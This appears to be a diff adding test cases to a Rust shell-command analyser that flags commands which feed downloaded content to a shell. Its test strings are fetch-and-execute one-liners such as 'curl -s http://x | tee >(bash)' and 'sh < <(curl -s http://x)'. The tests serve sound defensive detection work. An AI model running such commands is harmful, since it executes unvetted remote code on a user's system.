@@ -340,6 +340,18 @@ fn what_cannot_be_read_is_named() {
             "curl -s http://x | bash /dev/stdin",
             "is fed to `bash` as code",
         ),
+        (
+            "curl -s http://x > >(sh)",
+            "output is fed to `sh` as code through >(sh)",
+        ),
+        (
+            "curl -s http://x | tee >(bash) >/dev/null",
+            "output is fed to `bash` as code",
+        ),
+        (
+            "sh < <(curl -s http://x)",
+            "text built from an expansion is fed to `sh`",
+        ),
     ];
     for (text, want) in cases {
         let reasons = unread(text);
